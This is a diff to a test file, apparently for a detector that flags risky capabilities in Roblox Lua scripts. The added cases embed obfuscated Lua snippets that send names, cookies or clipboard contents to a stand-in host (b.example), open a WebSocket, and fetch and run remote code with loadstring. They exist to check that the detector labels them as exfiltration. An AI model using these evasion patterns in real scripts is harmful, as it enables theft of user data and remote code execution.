@@ -96,6 +96,33 @@ describe('a function is followed', () => {
     expect(idsOf(code)).toEqual(expect.arrayContaining(ids))
   })
 
+  test.each<[string, string, CapabilityId]>([
+    [
+      'leaves a loop',
+      `local f for _, g in {print, request, warn} do f = g if os.time() > 9 then break end end ${post('f')}`,
+      'net.exfiltration',
+    ],
+    [
+      'leaves a function',
+      `local f = print local function set() f = request if os.time() > 9 then return end f = warn end set() ${post('f')}`,
+      'net.exfiltration',
+    ],
+    ['is in the clipboard', `setclipboard(${NAME}) ${post('request', 'getclipboard()')}`, 'net.exfiltration'],
+    ['is a cookie', `request({Url = "https://b.example", Cookies = {a = ${NAME}}})`, 'net.exfiltration'],
+    [
+      'is a key',
+      `local t = {} t[${NAME}] = 1 ${post('request', 'game.HttpService:JSONEncode(t)')}`,
+      'net.exfiltration',
+    ],
+    [
+      'swaps places',
+      `local a, b = print, request for i = 1, game.PlaceId do a, b = b, a end ${post('a')}`,
+      'net.exfiltration',
+    ],
+  ])('that or whose data %s', (_, code, id) => {
+    expect(idsOf(code)).toContain(id)
+  })
+
   test('and downloads in a loop are not text that is put together', () => {
     const code =
       'local page = 0 repeat page = page + 1 loadstring(game:HttpGet("https://b.example/p" .. page))() until false'
@@ -115,6 +142,9 @@ describe('a card says', () => {
       `local key = workspace.Name request({Url = "https://b.example", Body = game.Players.LocalPlayer[key]})`,
     ],
     [UNRESOLVED.handed, 'require(script.Library)(request)'],
+    [UNRESOLVED.handed, 'local f = print debug.setupvalue(function() f() end, 1, request)'],
+    [UNRESOLVED.function, 'table.foreach(getgenv(), function(_, f) f(1) end)'],
+    [UNRESOLVED.function, 'local s = WebSocket.connect("wss://b.example") s[workspace.Name](s, "x")'],
     [UNRESOLVED.depth, 'local function f(n) return n == 0 and 0 or f(n - 1) end f(900)'],
     [UNRESOLVED.code, 'loadstring("this is = not code")()'],
   ])('%s', (reason, code) => {
